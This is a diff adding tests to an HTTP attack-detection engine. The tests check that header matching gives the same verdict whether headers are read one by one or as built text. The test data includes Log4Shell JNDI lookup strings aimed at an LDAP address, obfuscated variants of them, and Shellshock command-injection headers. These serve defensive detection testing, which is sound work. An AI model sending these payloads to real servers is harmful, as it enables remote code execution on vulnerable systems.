@@ -124,6 +124,43 @@ describe('detect/engine', () => {
       };
       assert.equal(classify(engine, 'GET /index.html HTTP/1.1', headers).request, null);
     });
+
+    it('judges headers read one by one as it judges the built header text', () => {
+      const cases: Record<string, unknown>[] = [
+        { 'user-agent': '${JNDI:ldap://198.51.100.7/a}' },
+        { 'user-agent': 'Mozilla (X11)', referer: '$%7Bjndi:ldap://198.51.100.7/a}' },
+        { a: '$', b: '{jndi:x}' },
+        { 'x-$': '{jndi:x}' },
+        { 'set-cookie': ['a=1', '() { :; }; /bin/id'] },
+        { 'user-agent': `${'x'.repeat(9000)}\${jndi:x}` },
+        { a: 'x'.repeat(8000), b: 'y'.repeat(8000), c: '() { :; }; id' },
+        { 'user-agent': '\u00c0\u00a4{jndi:x}' },
+        { 'content-length': 12 as unknown as string, 'user-agent': '() { :; }; id' },
+      ];
+      const custom = compileCatalogue([sig('ua-colon', 'request', { target: 'headers', pattern: 'agent: evil', literals: ['agent: evil'] })]);
+      for (const e of [engine, custom]) {
+        for (const headers of [...cases, { 'user-agent': 'evil' }, { 'user-agent': 'EVIL' }]) {
+          const lazy = e.normalise({ method: 'GET', target: '/', headers: headers as Record<string, string> });
+          const built = JSON.parse(JSON.stringify(lazy)) as NormalisedRequest;
+          assert.equal(typeof built.headers, 'string');
+          const verdicts = [e.match(lazy, 'request'), e.match(built, 'request')].map((v) => v && `${v.signature.id} ${v.detail}`);
+          assert.equal(verdicts[0], verdicts[1], JSON.stringify(headers).slice(0, 80));
+        }
+      }
+      assert.equal(classify(engine, 'GET / HTTP/1.1', { 'user-agent': '${JNDI:ldap://198.51.100.7/a}' }).request?.signature.id, 'log4shell-jndi');
+      assert.equal(classify(custom, 'GET / HTTP/1.1', { 'user-agent': 'EVIL' }).request?.signature.id, 'ua-colon');
+    });
+
+    it('builds the header text when read, the same whether read first or after matching', () => {
+      const headers = { 'User-Agent': 'A%20B', referer: 'x' };
+      const early = engine.normalise({ method: 'GET', target: '/', headers });
+      assert.equal(early.headers, 'user-agent: a b\nreferer: x');
+      const late = engine.normalise({ method: 'GET', target: '/', headers });
+      assert.equal(engine.match(late, 'request'), null);
+      assert.equal(late.headers, early.headers);
+      late.headers = 'x: () { :; }; id';
+      assert.equal(engine.match(late, 'request')?.signature.id, 'shellshock');
+    });
   });
 
   describe('robustness', () => {
